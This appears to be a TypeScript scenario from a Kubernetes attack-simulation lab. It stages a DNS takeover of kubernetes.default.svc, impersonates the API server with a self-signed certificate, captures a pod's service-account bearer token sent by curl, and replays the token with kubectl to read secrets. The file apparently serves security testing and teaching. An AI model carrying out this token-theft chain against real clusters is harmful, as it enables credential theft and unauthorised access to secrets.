import { Attacker } from '../../attacker/attacker';
import { name } from '../../attacker/position';
import { addresses, ports } from '../addresses';
import { randomCanaries } from '../canaries';
import type { Cluster } from '../cluster';
import { createObjects } from '../create-workloads';
import type { ServiceAccountSpec } from '../lab-credentials';
import type { Stage } from '../scenarios/stage';
import { clientOn } from './client-on';
import { playOf } from './play';
import { readSecret, runPodWithSecret } from './secret-of-pod';

const MOUNT = '/var/run/secrets/kubernetes.io/serviceaccount';
const NAME = 'kubernetes.default.svc';
const FULL_NAME = `${NAME}.cluster.local`;

const backup: ServiceAccountSpec = {
  namespace: 'default',
  name: 'backup',
  rules: [{ apiGroups: [''], resources: ['secrets'], verbs: ['get', 'list'] }],
};

export const dnsTakeover = playOf({
  steps: [
    'admin: kubectl create secret generic db … && kubectl apply -f db.yaml',
    'admin: kubectl apply -f backup.yaml',
    'attacker: dnsspoof, answers for kubernetes.default.svc.cluster.local',
    'backup: curl -sS … -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://kubernetes.default.svc/api/v1/namespaces/default/secrets',
    'attacker: kubectl --token=… get secret db',
  ],
  options: {
    curl: { about: 'flags of the pod’s curl', type: 'string' },
  },
  async play(stage, { options }) {
    const cluster = await stage.cluster();
    const { attackerHost, fabric } = cluster;
    const { signal } = stage;
    const secret = await runPodWithSecret(stage, cluster, 'db', 'node-1');
    await runBackup(stage, cluster);
    const { forged, tampered } = randomCanaries(stage.random);
    const pod = fabric.host('default/backup');
    if (pod === undefined) throw new Error('pod "backup" has no machine');
    const position = name(pod, attackerHost, NAME, { completed: FULL_NAME, port: 443 });
    const attack = await new Attacker({ host: attackerHost, random: stage.random.for('attacker') }).attack({
      technique: 'self-signed',
      targets: [{ address: addresses.controlPlane, port: ports.apiserver }],
      position,
      present: null,
      mode: 'impersonate',
      forged,
      tampered,
      dialledAs: NAME,
    });
    stage.closeLater({ close: () => attack.withdraw() });
    await stage.did('attacker', `dnsspoof, answers for ${FULL_NAME}`, position.describe());

    const url = `https://${NAME}/api/v1/namespaces/default/secrets`;
    const command = `curl -sS ${options.curl} -H "Authorization: Bearer $(cat ${MOUNT}/token)" ${url}`;
    const container = cluster.container({ namespace: 'default', pod: 'backup', container: 'backup' });
    const { outcome, stderr } = await container.run(['sh', '-c', command], signal);
    const [token] = attack.loot.credentials;
    if (token === undefined) {
      if (outcome.kind === 'exited' && outcome.code === 0) throw new Error('nobody was in the pod’s way');
      return stage.refused('backup', command, stderr.toString('utf8').trim());
    }
    await stage.did('backup', command, `at the attacker: Authorization: Bearer ${token.value.slice(0, 16)}…`);

    await using thief = clientOn(attackerHost, cluster, { token: token.value });
    const read = await readSecret(thief, secret.name, signal);
    const get = `kubectl --token=… get secret ${secret.name}`;
    if (secret.isIn(read.text))
      await stage.gained('attacker', get, read.text, 'what the pod’s account may read');
    else await stage.refused('attacker', get, read.text);
  },
});

async function runBackup(stage: Stage, cluster: Cluster): Promise<void> {
  await cluster.credentials.token(backup);
  const object = {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'backup', namespace: 'default' },
    spec: {
      nodeName: 'node-1',
      serviceAccountName: backup.name,
      containers: [{ name: 'backup', image: 'midplane/shell', stdin: true }],
    },
  };
  await createObjects(cluster.admin, [{ path: '/api/v1/namespaces/default/pods', object }]);
  await cluster.whenRunning('node-1', 'default', 'backup');
  await stage.did(
    'admin',
    'kubectl apply -f backup.yaml',
    'pod/backup runs on node-1; its account may read secrets',
  );
}
